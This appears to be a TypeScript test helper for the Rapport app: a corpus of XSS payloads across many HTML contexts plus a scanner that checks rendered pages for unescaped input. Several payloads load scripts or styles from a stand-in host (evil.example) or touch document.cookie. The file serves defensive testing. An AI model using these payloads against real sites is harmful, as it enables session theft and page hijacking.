/**
 * Hostile text for the XSS tests: what a respondent, an analyst or an uploaded questionnaire
 * could type, and a scanner that says whether a page let any of it through as markup.
 *
 * The payloads aim at every place text can land in a server-rendered page: element content,
 * quoted and unquoted attributes, <title> and <textarea> (raw text elements), SVG and MathML
 * (foreign content, parsed differently), comments and CDATA, URLs, CSS, and JavaScript string
 * contexts. Several are only dangerous if the app decodes something on the way (entities, URL
 * escapes, Unicode normalisation), which the scanner notices when it does.
 */

/** About 5,000 characters: a long answer that still fits a written-answer box. */
export const LONG_PAYLOAD = `${"A very long answer. ".repeat(60)}${`<img src=x onerror=alert(1)>${"x".repeat(52)}`.repeat(50)}<script>alert("long")</script>`;

export const XSS_PAYLOADS: readonly string[] = [
  // Script elements, plain and dressed up to slip past naive filters.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script>alert(String.fromCharCode(88,83,83))</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/x>alert(1)</script>",
  "<<script>alert(1);//<</script>",
  "<script\n>alert('newline')</script\n>",
  // Event handlers on every sort of element.
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(\'img\')">',
  "<img/src/onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>hello</marquee>",
  "<x contenteditable onblur=alert(1)>lose focus</x>",
  "<isindex type=image src=1 onerror=alert(1)>",
  // SVG and MathML: foreign content with its own parsing rules.
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">go</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math href="javascript:alert(1)">click</math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  // URLs that run code.
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href="java&#x09;script:alert(1)">tab inside</a>',
  '<a href="  &#14; javascript:alert(1)">leading junk</a>',
  '<a href="&#106;avascript:alert(1)">entity</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  "javascript:alert(document.cookie)",
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  // Breaking out of attributes, with both quote kinds and none.
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  '"/><img src=x onerror=alert(1)>',
  " onmouseover=alert(1) x=",
  '\\"><script>alert(1)</script>',
  // Leaving raw text elements and other contexts.
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</option></select><img src=x onerror=alert(1)>",
  "</style><script>alert(1)</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext>everything after me is text",
  "]]><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<!--",
  "<!--<script>alert(1)</script>-->",
  "--><script>alert(1)</script>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  "<!DOCTYPE html><html><body onload=alert(1)>",
  // Frames, plugins and documents inside the page.
  '<iframe src="javascript:alert(1)"></iframe>',
  "<iframe srcdoc=\"<script>alert('frame')</script>\"></iframe>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  "<template><img src=x onerror=alert(1)></template>",
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  // Style and CSS expressions.
  "<style>@import 'https://evil.example/x.css';</style>",
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<div style="width: expression(alert(1))">old IE</div>',
  '<div style="background:url(javascript:alert(1))">bg</div>',
  "x{}</style><style>body{display:none}",
  // Entities and escapes that decode to markup if anything decodes them.
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3C;img src=x onerror=alert(1)&#x3E;",
  "&LT;svg onload=alert(1)&GT;",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  // Unicode tricks: look-alikes that normalise to markup, separators, invisible characters.
  "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
  "\uFE64img src=x onerror=alert(1)\uFE65",
  "\u2028<script>alert(1)</script>\u2029",
  "\u202E<script>alert(1)</script>",
  "<scr\u200Bipt>alert(1)</script>",
  "\uFEFF<svg onload=alert(1)>",
  "\u{1F600}<img src=x onerror=alert('\u{1F600}')>",
  // NUL bytes, which PostgreSQL text cannot hold and some parsers skip.
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "\u0000<img src=x onerror=alert(1)>",
  // Half of a surrogate pair: not valid Unicode, so not storable as it is.
  "\uD800<script>alert(1)</script>",
  // Template and script-string injection.
  "{{constructor.constructor('alert(1)')()}}",
  // A template literal's placeholder (the dollar sign written as an escape for the linter).
  "\u0024{alert(1)}`;alert(1);`",
  "';alert(1);//",
  '";alert(1);//',
  "'';!--\"<XSS>=&{()}",
  LONG_PAYLOAD,
];

/** What hono/jsx writes for a text or attribute value. */
export function escapeHtml(text: string): string {
  return text
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    .replace(/"/g, "&quot;")
    .replace(/'/g, "&#39;");
}

const NEEDS_ESCAPING = /[<>"'&]/;

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;

/**
 * Text as Rapport keeps it: half a surrogate pair becomes U+FFFD (as a browser sends it), and
 * NUL is dropped (PostgreSQL cannot store it; see src/storable.ts).
 */
export function wellFormed(text: string): string {
  return text.replace(/\u0000/g, "").replace(LONE_SURROGATE, "\uFFFD");
}

/** The forms a payload may be stored in: as typed, trimmed, normalised, without NUL. */
export function storedForms(payload: string): string[] {
  const forms = new Set([
    payload,
    payload.trim(),
    payload.normalize("NFKC"),
    payload.normalize("NFKC").trim().replace(/\s+/g, " "),
    payload.replace(/\u0000/g, ""),
    payload.replace(/\u0000/g, "").trim(),
    wellFormed(payload),
  ]);
  return [...forms].filter((f) => f !== "" && NEEDS_ESCAPING.test(f));
}

let escapedCorpus: string[] | undefined;

/**
 * The forms whose raw appearance proves a missing escape. A few payloads are themselves what
 * another payload looks like once escaped ("&lt;script&gt;..." is "<script>..." escaped), so
 * finding them says nothing; for those, the tests check that their escaped form is shown.
 */
export function checkableForms(payload: string): string[] {
  escapedCorpus ??= XSS_PAYLOADS.flatMap((p) => storedForms(p).map(escapeHtml));
  return storedForms(payload).filter((form) => !escapedCorpus?.some((e) => e.includes(form)));
}

/** The tags Rapport renders; anything else in a page came from somebody's input. */
const KNOWN_TAGS = new Set(
  `html head meta title link script body header nav main footer section article aside div span p a
  h1 h2 h3 h4 strong em b i small code pre mark abbr time br hr ul ol li dl dt dd table caption
  thead tbody tfoot tr th td form fieldset legend label input textarea select option optgroup
  button progress meter details summary svg rect line`.split(/\s+/),
);
const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "action",
  "formaction",
  "xlink:href",
  "data",
  "poster",
  "background",
  "srcdoc",
]);
const OWN_SCRIPT = '<script src="/static/respondent.js"';

function decodeEntities(text: string): string {
  return text
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) =>
      String.fromCodePoint(Number.parseInt(hex, 16)),
    )
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&(quot|apos|lt|gt|amp|tab|newline|colon);?/gi, (_, name: string) => {
      const named: Record<string, string> = {
        quot: '"',
        apos: "'",
        lt: "<",
        gt: ">",
        amp: "&",
        tab: "\t",
        newline: "\n",
        colon: ":",
      };
      return named[name.toLowerCase()] ?? "";
    });
}

/**
 * Problems in a page: a payload as typed (when it has something to escape), a <script> that is
 * not the app's own, a tag Rapport never writes, an event-handler or style attribute, a URL that
 * runs code, or a comment/CDATA opener. Empty means the page is clean.
 */
export function unsafeMarkup(html: string, payloads: readonly string[]): string[] {
  const problems: string[] = [];
  for (const payload of payloads) {
    for (const form of checkableForms(payload)) {
      if (html.includes(form)) {
        const index = XSS_PAYLOADS.indexOf(payload);
        problems.push(
          `${index >= 0 ? `payload ${index}` : "a payload"} appears unescaped: ${JSON.stringify(form.slice(0, 80))}`,
        );
        break;
      }
    }
  }
  const lower = html.toLowerCase();
  for (let at = lower.indexOf("<script"); at !== -1; at = lower.indexOf("<script", at + 1)) {
    if (!html.startsWith(OWN_SCRIPT, at))
      problems.push(
        `a script that is not the app's own: ${JSON.stringify(html.slice(at, at + 80))}`,
      );
  }
  if (/<!--|<!\[cdata\[/i.test(html)) problems.push("a comment or CDATA opener in the page");
  const tag = /<([a-zA-Z][^\s/>\0]*)([^>]*)>/g;
  const attribute = /[\s/]([^\s"'=<>/`]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g;
  for (const match of html.matchAll(tag)) {
    const name = (match[1] ?? "").toLowerCase();
    const rest = match[2] ?? "";
    if (!KNOWN_TAGS.has(name)) problems.push(`a tag Rapport never writes: <${name}>`);
    for (const attr of rest.matchAll(attribute)) {
      const attrName = (attr[1] ?? "").toLowerCase();
      const rawValue = (attr[2] ?? "").replace(/^["']|["']$/g, "");
      if (attrName.startsWith("on")) problems.push(`an event handler ${attrName} on <${name}>`);
      if (attrName === "style") problems.push(`a style attribute on <${name}>`);
      if (URL_ATTRIBUTES.has(attrName)) {
        // Browsers drop control characters and whitespace in a URL's scheme.
        const url = decodeEntities(rawValue)
          .replace(/[\u0000-\u0020\u007f-\u009f]/g, "")
          .toLowerCase();
        if (/^(javascript|vbscript|data):/.test(url) || attrName === "srcdoc")
          problems.push(
            `a URL that runs code in ${attrName} of <${name}>: ${rawValue.slice(0, 60)}`,
          );
      }
    }
  }
  return problems;
}
